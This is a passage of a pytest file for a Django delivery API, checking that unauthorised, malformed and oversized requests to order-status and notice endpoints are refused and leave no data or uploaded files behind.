    client = rounds.as_dispatcher
    for step in ("ready", "collected"):
        url = f"{API}/orders/{out}/{step}"
        with hostile_endpoint(f"POST /api/v1/delivery/orders/<pk>/{step}") as run:
            run.send("anonymous", lambda u=url: rounds.anonymous.post(u))
            run.send("courier", lambda u=url: rounds.as_walker.post(u))
            run.send("status_does_not_allow_it", lambda u=url: client.post(u))
            for name, body in raw_bodies().items():
                run.send(name, lambda u=url, b=body: _post_json(client, u, b))
            for name, pk in PK_CASES.items():
                run.send(f"pk={name}", lambda p=pk, s=step: client.post(f"{API}/orders/{p}/{s}"))
            if step == "ready":
                run.send(
                    "home_delivery_not_failed",
                    lambda: client.post(f"{API}/orders/{rounds.spare.pk}/ready"),
                )


def test_hostile_notice_acknowledgements_are_refused_and_mark_nothing(rounds):
    url = f"{API}/notices"
    notices = list(DeliveryNotice.objects.values_list("pk", flat=True))
    assert notices  # the round under way told its citizens
    with hostile_endpoint("GET and POST /api/v1/delivery/notices") as run:
        run.send("anonymous read", lambda: rounds.anonymous.get(url))
        run.send("anonymous", lambda: _post_json(rounds.anonymous, url, {"sent": notices}))
        run.send("courier", lambda: _post_json(rounds.as_walker, url, {"sent": notices}))
        client = rounds.as_dispatcher
        for name, body in raw_bodies().items():
            run.send(name, lambda b=body: _post_json(client, url, b))
        for name, value in {
            **filter_cases(),
            "booleans": [True],
            "fractions": [float(notices[0]) + 0.5],
            "strings": [str(notices[0])],
            "nested": [notices],
            "null_member": [notices[0], None],
            "beyond_bigint": [2**64],
            "zero": [0],
            "negative": [-notices[0]],
            "object": {"ids": notices},
            "null": None,
            "too_many": list(range(1, 100_002)),
        }.items():
            run.send(f"sent={name}", lambda v=value: _post_json(client, url, {"sent": v}))
        run.send("no_sent", lambda: _post_json(client, url, {"ids": notices}))
        run.send("form_encoded", lambda: client.post(url, {"sent": notices[0]}))
    assert _post_json(client, url, {"sent": notices[:1]}).json() == {"marked": 1}
    assert client.get(url).status_code == 200


def test_a_proof_refused_after_its_photo_was_written_leaves_no_file(rounds, monkeypatch):
    """The photo and signature are written before the rows; when a later step refuses the
    record (here the round's bookkeeping), the rows roll back and the files are removed."""
    from delivery.services import proofs

    def refused(**kwargs):
        raise proofs.Conflict("The round changed meanwhile.", code="round_changed")

    monkeypatch.setattr(proofs, "round_after_proof", refused)
    stop = rounds.stops[0]
    entrance = stop.order.building.entrance
    response = rounds.as_walker.post(
        f"{API}/proofs",
        {
            "client_id": str(uuid.uuid4()),
            "order": stop.order_id,
            "outcome": "delivered",
            "recipient_name": "Recipient at the door",
            "recorded_at": timezone.now().isoformat(),
            "lon": str(entrance.x),
            "lat": str(entrance.y),
            "photo": SimpleUploadedFile("p.jpg", (FILES / "doorstep.jpg").read_bytes()),
            "signature": SimpleUploadedFile("s.png", (FILES / "signature.png").read_bytes()),
        },
    )
    assert (response.status_code, response.json()["error"]["code"]) == (409, "round_changed")
    assert not ProofOfDelivery.objects.exists()
    assert _media_files(rounds.media) == []
